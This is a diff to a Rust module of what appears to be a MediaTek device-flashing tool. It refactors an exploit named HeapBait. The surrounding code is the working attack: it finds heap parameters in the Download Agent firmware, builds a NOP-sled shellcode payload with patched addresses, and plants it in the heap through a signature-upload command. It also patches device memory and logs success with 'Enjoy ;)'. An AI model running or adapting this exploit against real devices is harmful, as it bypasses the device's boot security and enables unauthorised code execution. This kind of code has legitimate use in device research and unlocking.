@@ -29,7 +29,7 @@ use crate::connection::port::ConnectionType;
 use crate::da::xml::{XmlCmdLifetime, XmlCommand};
 use crate::da::{DA, DAEntryRegion, DAProtocol, Xml};
 use crate::error::{Error, Result};
-use crate::exploit::{BootStage, Exploit, ExploitMeta, get_v6_payload};
+use crate::exploit::{BootStage, Exploit, ExploitMeta, ExploitOutcome, get_v6_payload};
 use crate::utilities::analysis::{
     Aarch64Analyzer,
     Arch,
@@ -167,16 +167,25 @@ fn parse_heap_init(analyzer: &dyn ArchAnalyzer, params: &mut HeapParams) -> Opti
         for off in (params.heap_init_off..analyzer32.len()).step_by(4) {
             let Some(instr) = analyzer32.read_u32(off) else { break };
 
-            if let Some((rd, imm16)) = analyzer32.decode_movw(instr) {
-                regs[rd as usize] = imm16 as u64;
-            } else if let Some((rd, imm16)) = analyzer32.decode_movt(instr) {
-                regs[rd as usize] |= (imm16 as u64) << 16;
+            if let Some((rd, imm16)) = analyzer32.decode_movw(instr)
+                && let Some(reg) = regs.get_mut(rd as usize)
+            {
+                *reg = imm16 as u64;
+            } else if let Some((rd, imm16)) = analyzer32.decode_movt(instr)
+                && let Some(reg) = regs.get_mut(rd as usize)
+            {
+                *reg |= (imm16 as u64) << 16;
             } else if let Some((rn, rm, rd)) = analyzer32.decode_sub_reg(instr) {
-                regs[rd as usize] = regs[rn as usize].wrapping_sub(regs[rm as usize]);
+                let (Some(&n), Some(&m)) = (regs.get(rn as usize), regs.get(rm as usize)) else {
+                    break;
+                };
+                if let Some(reg) = regs.get_mut(rd as usize) {
+                    *reg = n.wrapping_sub(m);
+                }
                 if heap_base == 0 {
                     heap_base = regs[0];
                 }
-                heap_size = regs[rd as usize];
+                heap_size = n.wrapping_sub(m);
                 break;
             }
         }
@@ -262,12 +271,16 @@ fn find_heap_struct(
         for off in (params.heap_init_off..search_end).step_by(4) {
             let instr = analyzer32.read_u32(off).unwrap_or(0);
 
-            if let Some((rd, imm16)) = analyzer32.decode_movw(instr) {
-                regs[rd as usize] = imm16 as u64;
+            if let Some((rd, imm16)) = analyzer32.decode_movw(instr)
+                && let Some(reg) = regs.get_mut(rd as usize)
+            {
+                *reg = imm16 as u64;
             }
 
-            if let Some((rd, imm16)) = analyzer32.decode_movt(instr) {
-                regs[rd as usize] |= (imm16 as u64) << 16;
+            if let Some((rd, imm16)) = analyzer32.decode_movt(instr)
+                && let Some(reg) = regs.get_mut(rd as usize)
+            {
+                *reg |= (imm16 as u64) << 16;
             }
 
             if analyzer32.is_bx_lr(instr) || (instr & 0x0F000000) == 0x0A000000 {
@@ -444,7 +457,7 @@ fn build_shellcode_payload(params: &HakujoudaiParams, heap: &HeapParams) -> Opti
     let nop = if heap.is_arm64 { NOP_ARM64 } else { NOP_ARM32 };
     let nop_count = ((heap.heap_size / 10) / 4) as usize;
 
-    let mut payload_bin = get_v6_payload(HAKUJOUDAI, heap.is_arm64).to_vec();
+    let mut payload_bin = get_v6_payload(HAKUJOUDAI, heap.is_arm64).ok()?.to_vec();
 
     patch_pattern_str(&mut payload_bin, "11111111", &bytes_to_hex(&params.reg_cmd.to_le_bytes()))?;
     patch_pattern_str(&mut payload_bin, "22222222", &bytes_to_hex(&params.cmd_loop.to_le_bytes()))?;
@@ -511,7 +524,7 @@ impl HeapBait {
     async fn patch_mem(&self, xml: &mut Xml, addr: u32, data: &[u8]) -> Result<()> {
         let cmd = ExpPatchMem { address: addr, length: data.len() as u32 };
         xml.send_cmd(&cmd).await?;
-        xml.download_file(data.len(), data, &mut |_, _| {}).await?;
+        xml.download_file(data.len(), data, &mut |_| {}).await?;
         xml.lifetime_ack(XmlCmdLifetime::CmdEnd).await?;
         Ok(())
     }
@@ -562,7 +575,7 @@ impl HeapBait {
 
 #[async_trait::async_trait]
 impl Exploit for HeapBait {
-    async fn run(&mut self, protocol: &mut dyn DAProtocol) -> Result<bool> {
+    async fn run(&mut self, protocol: &mut dyn DAProtocol) -> Result<ExploitOutcome> {
         let proto = protocol
             .as_any_mut()
             .downcast_mut::<Xml>()
@@ -571,21 +584,21 @@ impl Exploit for HeapBait {
         let da = proto.get_da().clone();
 
         if !self.is_vulnerable(&da) {
-            return Ok(false);
+            return Ok(ExploitOutcome::Skipped("DA not vulnerable".to_string()));
         }
 
         let Some((heap_params, haku_params, patch_params)) = self.extract_params(&da) else {
             warn!(
                 "HeapBait: Failed to find necessary parameters for hakujoudai, aborting exploit."
             );
-            return Ok(false);
+            return Ok(ExploitOutcome::Failed("hakujoudai parameters not found".to_string()));
         };
 
         info!("[Exploit] Device is vulnerable to HeapBait!");
 
         let Some(hakujoudai) = build_shellcode_payload(&haku_params, &heap_params) else {
             warn!("HeapBait: Failed to prepare hakujoudai payload, aborting exploit.");
-            return Ok(false);
+            return Ok(ExploitOutcome::Failed("hakujoudai payload not built".to_string()));
         };
 
         debug!(
@@ -621,7 +634,7 @@ impl Exploit for HeapBait {
         // actual shellcode (hakujoudai). The shellcode lands somewhere in the heap.
         let cmd = SecuritySetAllinoneSignature::new("aio.bin");
         proto.send_cmd(&cmd).await?;
-        proto.download_file(hakujoudai.len(), &mut hakujoudai.as_slice(), &mut |_, _| {}).await?;
+        proto.download_file(hakujoudai.len(), &mut hakujoudai.as_slice(), &mut |_| {}).await?;
         proto.lifetime_ack(XmlCmdLifetime::CmdEnd).await?;
 
         info!("[Exploit] Hakujoudai landed (size: 0x{:X} bytes)", hakujoudai.len());
@@ -697,7 +710,7 @@ impl Exploit for HeapBait {
 
         info!("[Exploit] The heap took the bait. Enjoy ;)");
 
-        Ok(true)
+        Ok(ExploitOutcome::Succeeded)
     }
 
     fn get_meta(&self) -> &ExploitMeta {